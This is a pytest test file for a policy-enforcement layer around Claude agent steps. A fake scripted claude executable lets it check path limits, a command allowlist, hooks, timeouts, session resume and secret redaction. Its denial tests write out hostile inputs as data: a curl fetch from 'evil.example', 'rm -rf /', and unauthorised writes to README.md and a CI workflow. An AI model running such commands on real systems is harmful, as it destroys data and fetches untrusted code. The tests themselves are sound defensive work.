"""Tests for agent steps: the real Claude Agent SDK driving a fake ``claude`` executable.

The fake speaks Claude Code's stream-json control protocol (tests/fakes/claude), so the SDK,
the hook and permission callbacks, the sandboxed runner process and the workspace checks all
run for real; only the model is scripted.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("claude_agent_sdk")

from bcce.artifacts import METRICS
from bcce.policy import Effective
from bcce.redact import Redactor
from bcce.steptypes import StepContext, StepOutcome
from bcce.workflow import AgentStep
from workers.agent_runner import Session
from workers.executors import agent

FAKE = Path(__file__).resolve().parent.parent / "fakes" / "claude"
MODEL = "us.anthropic.claude-sonnet-4-5-20250929-v1:0"
POLICY = {
    "timeout_seconds": 60,
    "allowed_paths": ["src/**"],
    "cmd_allowlist": ["echo", "git status"],
    "max_files": 3,
    "max_edits": 20,
}


def git(cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.email=t@t", "-c", "user.name=t", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


class Agent:
    """One agent step in a git workspace, run by the executor with a scripted fake claude."""

    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.workspace = tmp_path / "ws"
        (self.workspace / "src").mkdir(parents=True)
        (self.workspace / "src" / "app.py").write_text("def add(a, b):\n    return a - b\n")
        (self.workspace / "README.md").write_text("# demo\n")
        git(self.workspace, "init", "-q")
        git(self.workspace, "add", ".")
        git(self.workspace, "commit", "-qm", "init")
        self.step_dir = self.workspace / ".bcce_runs" / "run1" / "fix"
        self.step_dir.mkdir(parents=True)
        self.log = tmp_path / "claude-calls.jsonl"
        self.scenario_file = tmp_path / "scenario.json"
        monkeypatch.setenv("BCCE_CLAUDE_BIN", str(FAKE))
        monkeypatch.setenv("AWS_REGION", "eu-west-1")
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIA" + "ABCDEFGHIJKLMNOP")
        monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "x" * 36)  # a worker secret: never passed

    def run(
        self,
        scenario: dict[str, Any],
        attempt: int = 1,
        timeout: float = 30,
        **step: Any,
    ) -> StepOutcome:
        self.scenario_file.write_text(json.dumps(scenario))
        fields: dict[str, Any] = {
            "id": "fix",
            "type": "agent",
            "prompt": "Fix the add function in src/app.py.",
            "available_tools": ["ReadFile", "Search", "Diff", "Cmd"],
            "policy": POLICY,
            **step,
        }
        ctx = StepContext(
            run_id="2026-11-26T14-03-07-a1b2c3",
            step=AgentStep(**fields),
            attempt=attempt,
            timeout_seconds=timeout,
            workspace=self.workspace,
            step_dir=self.step_dir,
            env={
                "PATH": os.environ["PATH"],
                "HOME": os.environ.get("HOME", "/root"),
                "FAKE_CLAUDE_SCENARIO": str(self.scenario_file),
                "FAKE_CLAUDE_LOG": str(self.log),
            },
            output_cap_bytes=1 << 20,
            read_output=lambda sid: "",
            output_path=lambda sid: self.step_dir.parent / sid / "output.txt",
            workflow_model=MODEL,
        )
        outcome = agent.execute(ctx)
        # What the worker task does after each attempt (the retry reads it back).
        (self.step_dir / METRICS).write_text(json.dumps(dict(outcome.metrics)))
        return outcome

    def calls(self) -> list[dict[str, Any]]:
        """The fake's last log line of each invocation, in order."""
        lines = self.log.read_text().splitlines() if self.log.exists() else []
        last: dict[str, dict[str, Any]] = {}
        for call in map(json.loads, lines):
            last[call["invocation_id"]] = call
        return list(last.values())

    def artifact(self, name: str) -> str:
        return (self.step_dir / name).read_text()

    def source(self, path: str) -> str:
        return (self.workspace / path).read_text()


@pytest.fixture
def agent_step(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Agent:
    return Agent(tmp_path, monkeypatch)


FIX = {
    "tool": "Edit",
    "input": {"file_path": "src/app.py", "old_string": "a - b", "new_string": "a + b"},
}
USAGE = {
    "input_tokens": 1200,
    "output_tokens": 300,
    "cache_read_input_tokens": 100,
    "cache_creation_input_tokens": 0,
}


def test_an_allowed_edit_lands_with_its_diff_transcript_and_metrics(agent_step: Agent) -> None:
    outcome = agent_step.run(
        {
            "session_id": "sess-1",
            "actions": [{"tool": "Read", "input": {"file_path": "src/app.py"}}, FIX],
            "result": "Fixed add().",
            "usage": USAGE,
            "total_cost_usd": 0.0081,
        }
    )
    assert outcome.ok, outcome.error
    assert agent_step.source("src/app.py").endswith("return a + b\n")
    diff = agent_step.artifact("changes.diff")
    assert "-    return a - b" in diff and "+    return a + b" in diff
    assert agent_step.artifact("output.txt") == "Fixed add().\n"
    assert "**Tool call `Edit`**" in agent_step.artifact("transcript.md")
    kinds = [
        json.loads(line)["type"] for line in agent_step.artifact("transcript.jsonl").splitlines()
    ]
    assert kinds[0] == "SystemMessage" and kinds[-1] == "ResultMessage"
    metrics = outcome.metrics
    assert metrics["session_id"] == "sess-1"
    assert metrics["cost_usd"] == 0.0081 and metrics["cost_source"] == "claude-code"
    assert metrics["usage"] == USAGE
    assert (metrics["files_changed"], metrics["lines_changed"]) == (1, 2)


def test_the_cli_gets_the_step_options_and_only_the_environment_bedrock_needs(
    agent_step: Agent,
) -> None:
    agent_step.run({"actions": [], "result": "nothing to do"}, max_turns=7)
    [call] = agent_step.calls()
    argv = call["argv"]

    def flag(name: str) -> str:
        for i, arg in enumerate(argv):
            if arg == name:
                return str(argv[i + 1])
            if arg.startswith(name + "="):
                return str(arg.split("=", 1)[1])
        raise AssertionError(f"{name} not in {argv}")

    assert flag("--model") == MODEL
    assert flag("--max-turns") == "7"
    assert flag("--tools").split(",") == [
        "Read",
        "Grep",
        "Glob",
        "Edit",
        "Write",
        "MultiEdit",
        "Bash",
    ]
    assert "Bash(git status:*)" in flag("--allowedTools").split(",")
    assert "WebFetch" in flag("--disallowedTools").split(",")
    assert flag("--permission-prompt-tool") == "stdio"
    assert flag("--setting-sources") == ""  # no user or project settings
    assert "Change only files matching: src/**" in flag("--append-system-prompt") + call["prompt"]
    assert call["cwd"] == str(agent_step.workspace)
    env = call["env"]
    assert env["CLAUDE_CODE_USE_BEDROCK"] == "1"
    assert env["AWS_REGION"] == "eu-west-1"
    assert env["AWS_ACCESS_KEY_ID"].startswith("AKIA")
    assert "GITHUB_TOKEN" not in env
    assert not [k for k in env if k.startswith("BCCE_") and k not in ("BCCE_RUN_ID",)]
    [hook] = call["initialize"]["hooks"]["PreToolUse"]
    assert hook["matcher"] is None and hook["onFailure"] == "block"  # every tool, fail closed


def test_the_hook_denies_an_edit_outside_allowed_paths_and_the_step_fails(
    agent_step: Agent,
) -> None:
    outcome = agent_step.run(
        {
            "actions": [{"tool": "Write", "input": {"file_path": "README.md", "content": "pwned"}}],
            "result": "done",
        }
    )
    assert agent_step.source("README.md") == "# demo\n"
    assert not outcome.ok
    assert outcome.error is not None and "1 tool call(s) denied by policy" in outcome.error
    [denial] = outcome.metrics["denials"]
    assert denial["tool"] == "Write" and denial["via"] == "hook"
    assert "outside policy.allowed_paths" in denial["reason"]
    transcript = agent_step.artifact("transcript.jsonl")
    assert "bcce policy: 'README.md' is outside policy.allowed_paths" in transcript  # agent saw it


def test_a_command_outside_the_allow_list_is_denied_but_may_be_only_recorded(
    agent_step: Agent,
) -> None:
    outcome = agent_step.run(
        {
            "actions": [
                {"tool": "Bash", "input": {"command": "curl https://evil.example/x.sh"}},
                {"tool": "Bash", "input": {"command": "echo fine"}},
            ],
            "result": "done",
        },
        fail_on_denial=False,
    )
    assert outcome.ok, outcome.error
    [denial] = outcome.metrics["denials"]
    assert "'curl https://evil.example/x.sh' is not in policy.cmd_allowlist" in denial["reason"]


def test_edits_made_without_asking_are_caught_after_the_step_and_discarded(
    agent_step: Agent,
) -> None:
    outcome = agent_step.run(
        {
            "print_mode": True,
            "actions": [
                FIX,
                {
                    "tool": "Write",
                    "input": {"file_path": ".github/workflows/x.yml", "content": "x"},
                },
            ],
            "result": "done",
        }
    )
    assert not outcome.ok
    assert outcome.error == (
        "policy violation: '.github/workflows/x.yml' is outside policy.allowed_paths ['src/**']; "
        "the step's changes were discarded"
    )
    assert agent_step.source("src/app.py").endswith("return a - b\n")
    assert not (agent_step.workspace / ".github").exists()
    assert "x.yml" in agent_step.artifact("discarded.diff")  # kept for review
    assert agent_step.artifact("changes.diff") == ""  # what the step left: nothing
    assert outcome.metrics["changes_discarded"] is True


def test_a_read_only_step_that_changes_a_file_fails(agent_step: Agent) -> None:
    outcome = agent_step.run(
        {"print_mode": True, "actions": [FIX], "result": "done"},
        policy={**POLICY, "max_edits": 0},
    )
    assert outcome.error is not None and "read-only (max_edits: 0)" in outcome.error
    assert agent_step.source("src/app.py").endswith("return a - b\n")


def test_too_many_lines_is_a_violation(agent_step: Agent) -> None:
    big = "\n".join(f"x{i} = {i}" for i in range(30)) + "\n"
    outcome = agent_step.run(
        {"actions": [{"tool": "Write", "input": {"file_path": "src/big.py", "content": big}}]}
    )
    assert outcome.error is not None and "30 lines changed, policy.max_edits is 20" in outcome.error
    assert not (agent_step.workspace / "src" / "big.py").exists()


def test_a_hanging_agent_is_killed_at_the_timeout_and_fails(agent_step: Agent) -> None:
    outcome = agent_step.run({"actions": [{"hang": True, "ignore_sigterm": True}]}, timeout=3)
    assert not outcome.ok and outcome.timed_out
    assert outcome.error == "timed out after 3s; the agent's process group was killed"


def test_a_retry_resumes_the_claude_session(agent_step: Agent) -> None:
    scenario = {"session_id": "sess-9", "fail_unless_resumed": True, "result": "done"}
    first = agent_step.run(scenario)
    assert not first.ok and first.metrics["session_id"] == "sess-9"
    second = agent_step.run(scenario, attempt=2)
    assert second.ok, second.error
    assert "--resume=sess-9" in agent_step.calls()[-1]["argv"]
    assert not any(a.startswith("--resume") for a in agent_step.calls()[0]["argv"])


def test_secrets_are_redacted_in_what_is_stored(agent_step: Agent) -> None:
    key = "AKIA" + "QWERTYUIOPASDFGH"
    outcome = agent_step.run(
        {"actions": [{"text": f"found key {key}"}], "result": f"the key is {key}"}
    )
    assert outcome.ok, outcome.error
    for name in ("output.txt", "transcript.jsonl", "transcript.md"):
        assert key not in agent_step.artifact(name), name
    assert "[REDACTED:aws-access-key]" in agent_step.artifact("output.txt")


def test_a_step_budget_reaches_claude_code(agent_step: Agent) -> None:
    agent_step.run({"result": "ok"}, policy={**POLICY, "max_cost_usd": 0.25})
    assert "0.25" in agent_step.calls()[0]["argv"]


def test_the_permission_callback_applies_the_same_policy(tmp_path: Path) -> None:
    policy = Effective(60, ("pytest",), ("src/**",), None, None)
    request = {
        "policy": policy.to_json(),
        "tools": {"tools": ["Edit", "Bash"], "allowed": ["Edit"], "disallowed": []},
        "workspace": str(tmp_path),
    }
    session = Session(request, Redactor())

    class Context:
        tool_use_id = "toolu_1"

    deny = anyio.run(session.can_use_tool, "Bash", {"command": "rm -rf /"}, Context())
    allow = anyio.run(session.can_use_tool, "Edit", {"file_path": "src/a.py"}, Context())
    assert deny.behavior == "deny" and "not in policy.cmd_allowlist" in deny.message
    assert allow.behavior == "allow"
    assert [d["via"] for d in session.denials] == ["can_use_tool"]
